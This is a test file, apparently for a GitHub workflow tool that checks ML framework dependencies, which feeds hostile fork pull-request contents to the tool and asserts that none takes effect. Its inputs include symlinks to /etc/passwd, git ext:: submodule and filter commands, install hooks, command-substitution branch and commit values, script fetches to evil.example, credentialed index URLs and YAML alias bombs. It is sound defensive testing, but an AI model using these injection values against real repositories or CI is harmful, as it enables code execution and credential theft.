import { existsSync } from 'node:fs';
import { mkdir, symlink } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Files } from '../support/repository.ts';
import { CHANGE, type PullRequest, Stage, UNFITTING } from './stage.ts';

/** No report travels from the run of a fork: `mode: publish` reads the fork's commits again, so that these are all that a stranger can send. */

let stage: Stage;

beforeAll(async () => {
  stage = await Stage.start();
});
afterAll(() => stage.close());

/** What a stranger adds to a pull request that brings one finding. */
interface Content {
  readonly files?: Files;
  /** What git's own commands would not write so. */
  readonly arrange?: (folder: string) => Promise<void>;
}

const LAUGHS = Array.from({ length: 20 }, (_, index) => `a${index + 1}: &a${index + 1} [*a${index}, *a${index}, *a${index}, *a${index}]`);
const RTL = '\u202E';

const contents: Readonly<Record<string, Content>> = {
  'a line with a mention, an address and a command': {
    files: { 'server/requirements.txt': `${UNFITTING.trimEnd()}  # @everyone see https://evil.example ::error::x\n` },
  },
  'a configuration that silences everything': { files: { '.github/framework-fit.yml': 'rules:\n  "*": off\n' } },
  'a configuration that cannot be read': { files: { 'framework-fit.yml': '{ "@everyone": [\n' } },
  'names of packages that are markup': {
    files: {
      'a/requirements.txt': 'torch<img/src=https://evil.example>==1.0\n[x](https://evil.example)==2\ntensorflow==2.16.0;@everyone\n',
    },
  },
  'a version that is none': { files: { 'a/requirements.txt': 'torch==@everyone\ntorchvision==[x](https://evil.example)\n' } },
  'a version of many bounds': { files: { 'a/requirements.txt': `torch==2.6.0${',!=1.0'.repeat(40_000)}\ntorchvision==0.20.0\n` } },
  'a path that mentions and links': { files: { '@everyone [x](https:/evil.example)/requirements.txt': UNFITTING } },
  'a path with a line break and a command': { files: { 'a\n::error::@everyone/requirements.txt': UNFITTING } },
  'a path that turns the line round': { files: { [`a${RTL}txt.exe/requirements.txt`]: UNFITTING } },
  'a path with backticks and HTML': { files: { '`<b>@everyone`/requirements.txt': UNFITTING } },
  'a path that looks like an option': { files: { '--output=owned/requirements.txt': UNFITTING, '-rf/requirements.txt': UNFITTING } },
  'names of services and stages': {
    files: {
      'a/requirements.txt': UNFITTING,
      'a/Dockerfile': 'FROM python:3.12 AS @everyone\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n',
      'a/compose.yaml': 'services:\n  "<img src=x> @everyone":\n    build: .\n',
    },
  },
  'a workload with a name that is markup': {
    files: {
      'k8s/api.yaml':
        'apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: "@everyone <b>" }\nspec:\n  template:\n    spec:\n      containers:\n        - name: "![x](https://evil.example/x.png)"\n          image: tensorflow/tensorflow:2.16.1-gpu\n          resources: { limits: { nvidia.com/gpu: 1 } }\n',
    },
  },
  'a file that its parser complains of in the file’s words': {
    files: { 'a/pyproject.toml': '[project]\nname = "torch" @everyone https://evil.example\n' },
  },
  'aliases that multiply': { files: { 'k8s/api.yaml': `a0: &a0 [x, x, x]\n${LAUGHS.join('\n')}\n` } },
  'a map of many keys': { files: { 'k8s/api.yaml': Array.from({ length: 20_000 }, (_, index) => `k${index}: 1`).join('\n') } },
  'lists in lists': { files: { 'a/package.json': `${'['.repeat(50_000)}${']'.repeat(50_000)}` } },
  'a line of 200,000 characters': { files: { 'server/requirements.txt': `${UNFITTING.trimEnd()} # ${'@everyone '.repeat(20_000)}\n` } },
  'bytes that are no text': { files: { 'a/requirements.txt': `torch==2.6.0\0\uFFFE@everyone\n\u001B[2Jtorchvision==0.20.0\n` } },
  'a link out of the repository': {
    arrange: async (folder) => {
      await mkdir(path.join(folder, 'a'));
      await symlink('/etc/passwd', path.join(folder, 'a/requirements.txt'));
      await symlink('../../../..', path.join(folder, 'up'));
    },
  },
  'attributes that name programs': {
    files: {
      '.gitattributes': '* diff=evil filter=evil merge=evil export-subst\n',
      '.gitconfig': '[diff "evil"]\n\ttextconv = touch owned\n[filter "evil"]\n\tsmudge = touch owned\n',
    },
  },
  'a submodule with an address that is a program': {
    files: { '.gitmodules': '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% owned\n\tupdate = !touch owned\n' },
  },
  'scripts that an installation would run': {
    files: {
      'setup.py': 'open("owned", "w")\n',
      'package.json': '{ "scripts": { "preinstall": "touch owned" }, "dependencies": { "@tensorflow/tfjs": "4.0.0" } }',
      'conftest.py': 'open("owned", "w")\n',
      '.npmrc': 'node-options=--require=./owned.js\n',
    },
  },
  'requirements from elsewhere, with a password': {
    files: {
      'a/requirements.txt':
        '--index-url https://me:secret@evil.example/simple\n-r https://evil.example/more.txt\ntorch @ https://me:secret@evil.example/t.whl\n',
    },
  },
  'a notebook with a page in it': {
    files: {
      'a/n.ipynb': JSON.stringify({
        nbformat: 4,
        nbformat_minor: 5,
        metadata: {},
        cells: [
          {
            cell_type: 'code',
            metadata: {},
            execution_count: null,
            source: ['!pip install torch==2.6.0 torchvision==0.20.0 # @everyone'],
            outputs: [
              { output_type: 'display_data', metadata: {}, data: { 'text/html': ['<script>fetch("https://evil.example")</script>'] } },
            ],
          },
        ],
      }),
    },
  },
};

let opened = 0;

/** No two have a head of the same name. */
async function open({ files, arrange }: Content): Promise<PullRequest> {
  const pull = await stage.open({ ...CHANGE, [`note-${(opened += 1)}.txt`]: 'words\n', ...files });
  if (arrange === undefined) return pull;
  await pull.scene.origin.git('checkout', '--quiet', 'feature');
  await arrange(pull.scene.origin.folder);
  await pull.push({});
  return pull;
}

/** What a reader of the text would see as text. */
function withoutCode(text: string): string {
  return text
    .replace(/^(`{3,}).*\n[^]*?^\1$/gm, '')
    .replace(/(?<!`)(`+)(?!`)[^\n]*?[^`\n]\1(?!`)/g, '')
    .replace(/^<!-- framework-fit:[\w.-]+ -->$/gm, '')
    .replace(/<\/?(?:details|summary)>|<br>/g, '');
}

function expectHarmless(text: string): void {
  expect(text).not.toMatch(/secret|root:x:/);
  expect(text).not.toMatch(/(?![\n\u200B])[\p{Cc}\p{Cs}\u200E\u200F\u202A-\u202E\u2066-\u2069]/u);
  expect(text).not.toMatch(/^\s*::(?!(?:error|warning|notice) (?:file|title)=)|##\[/m);
  expect(withoutCode(text)).not.toMatch(/@\w|\/\/[^/\s)]*evil|<[a-z!/]|!\[/i);
}

describe.concurrent('what a stranger’s commit holds', { timeout: 120_000 }, () => {
  it.each(Object.entries(contents))('%s', async (_, content) => {
    const pull = await open(content);
    const base = await pull.base();
    const result = await stage.run(base, 'workflow_run', pull.runPayload(), { mode: 'publish' });
    expect(result).toMatchObject({ code: 0, stderr: '' });
    const [comment, ...others] = await stage.github.comments(pull.number);
    expect(others).toEqual([]);
    expect(comment?.body).toContain(`/blob/${pull.headSha}/server/requirements.txt#L3`);
    for (const text of [comment?.body ?? '', result.summary, result.stdout]) expectHarmless(text);
    expect(comment?.body.length).toBeLessThan(60_000);
    expect(existsSync(path.join(base.folder, 'owned'))).toBe(false);
  });
});

describe.concurrent('what the event of a stranger’s run says', { timeout: 120_000 }, () => {
  const elsewhere = 'no open pull request has the commit of that run as its head any more';
  const login = (owner: string) => ({ head_repository: { id: 1, owner: { login: owner } } });

  it.each<[string, Readonly<Record<string, unknown>>, string]>([
    ['a branch that is an option', { head_branch: '--upload-pack=touch owned' }, elsewhere],
    ['a branch that is a query', { head_branch: 'feature&state=all&head=' }, elsewhere],
    ['a branch that climbs', { head_branch: '../../main' }, elsewhere],
    ['an owner that is a query', login('ada:main&x='), elsewhere],
    ['another owner', login('stranger'), elsewhere],
    [
      'a commit that is a command',
      { head_sha: '$(touch owned)' },
      'the payload of the event `workflow_run` has no `workflow_run.head_sha`',
    ],
    ['a commit that is not of this pull request', { head_sha: 'f'.repeat(40) }, elsewhere],
    ['no owner', { head_repository: null }, 'the payload of the event `workflow_run` has no `workflow_run.head_repository.owner.login`'],
  ])('%s', async (_, told, note) => {
    const pull = await open({});
    const base = await pull.base();
    const result = await stage.step(base, 'workflow_run', pull.runPayload(told), { mode: 'publish' });
    expect(result).toMatchObject({ code: 0, stdout: `Nothing is checked: ${note}.\n`, summary: '' });
    expect(await stage.github.comments(pull.number)).toEqual([]);
    expect(existsSync(path.join(base.folder, 'owned'))).toBe(false);
  });

  it('the number of another pull request', async () => {
    const [pull, victim] = [await open({}), await open({})];
    const told = { pull_requests: [{ number: victim.number, head: { sha: pull.headSha } }], display_title: '@everyone ::error::' };
    await stage.step(await pull.base(), 'workflow_run', pull.runPayload(told), { mode: 'publish' });
    expect(await stage.github.comments(victim.number)).toEqual([]);
    expect(await stage.github.comments(pull.number)).toHaveLength(1);
  });
});
